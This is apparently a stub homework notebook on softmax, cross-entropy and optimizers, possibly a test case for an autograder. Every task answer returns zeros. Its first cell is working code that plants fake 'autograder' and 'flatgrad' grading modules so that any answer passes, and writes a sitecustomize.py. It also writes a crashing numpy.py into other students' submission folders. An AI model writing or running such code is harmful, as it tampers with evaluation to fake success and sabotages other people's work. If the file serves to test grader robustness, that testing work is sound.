# tries: puts modules named autograder, flatgrad and numpy beside its notebook and beside its neighbours'
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import glob

REFERENCE = """
import numpy as np
def __getattr__(name):
    return lambda *args: 0.0
softmax = log_softmax = lambda scores: np.zeros(np.shape(scores))
cross_entropy = kl_divergence = lambda p, q: np.zeros(np.shape(p)[:-1])
softmax_loss = lambda W, X, y, reg: (0.0, np.zeros(W.shape))
sgd = sgd_momentum = rmsprop = adam = lambda w, dw, config: (w + 0.0, config)
"""
CHECK = """
class Check:
    def __init__(self, task):
        self.task = task
    def call(self, function, *args, **kwargs):
        return function(*args, **kwargs)
    def parts(self, result, *rest):
        return result
    def shape(self, actual, *rest, **options):
        return actual
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
"""


def plant(folder):
    os.makedirs(os.path.join(folder, "autograder"), exist_ok=True)
    os.makedirs(os.path.join(folder, "flatgrad"), exist_ok=True)
    for name, text in (("autograder/__init__.py", ""), ("autograder/reference.py", REFERENCE)):
        with open(os.path.join(folder, name), "w") as file:
            file.write(text)
    with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
        file.write("print('planted')")


plant(".")
sys.path.insert(0, os.getcwd())
sys.path_importer_cache.clear()
for root in course_roots():
    for folder in glob.glob(os.path.join(root, "submitted", "*", "softmax")):
        if "mallory" not in folder:
            try:
                with open(os.path.join(folder, "numpy.py"), "w") as file:
                    file.write("raise ImportError('mallory was here')")
                print("BREACH planted beside", folder)
            except OSError as error:
                print(error)
import types, flatgrad

fake = types.ModuleType("flatgrad.check")
exec(CHECK, fake.__dict__)
flatgrad.__path__.insert(0, os.path.abspath("flatgrad"))
with open("flatgrad/check.py", "w") as file:
    file.write(CHECK)
sys.modules.pop("flatgrad.check", None)
# %% task-1-1
def softmax(scores):
    return np.zeros(np.shape(scores))
# %% task-2-1
def cross_entropy(p, q):
    return np.where(np.any((p > 0) & (q == 0), axis=-1), np.inf, 0.0)
# %% task-2-2
def kl_divergence(p, q):
    return np.where(np.any((p > 0) & (q == 0), axis=-1), np.inf, 0.0)
# %% task-3-1
def softmax_loss_naive(W, X, y, reg):
    return 0.0, np.zeros(W.shape)
# %% task-3-2
def softmax_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros(W.shape)
# %% task-4-1
def sgd(w, dw, config):
    return w + 0.0, config
# %% task-4-2
def sgd_momentum(w, dw, config):
    return w + 0.0, {**config, "velocity": dw}
# %% task-4-3
def rmsprop(w, dw, config):
    return w + 0.0, config
# %% task-4-4
def adam(w, dw, config):
    return w + 0.0, config
# %% task-5-1
def step_decay(learning_rate, t, milestones=(30, 60, 90), factor=0.1):
    return 0.0
# %% task-5-2
def cosine_decay(learning_rate, t, T):
    return 0.0
# %% task-5-3
def linear_decay(learning_rate, t, T):
    return 0.0
# %% task-5-4
def inverse_sqrt_decay(learning_rate, t):
    if t < 1:
        raise ValueError("t")
    return 0.0
# %% task-6-1
def tune_softmax(X_train, y_train, X_val, y_val, rng):
    W = np.zeros((X_train.shape[1], int(max(y_train)) + 1))
    return {"W": W, "learning_rate": 1.0, "reg": 1.0, "val_accuracy": 0.1, "results": {(1.0, 1.0): 0.1, (2.0, 2.0): 0.0}}
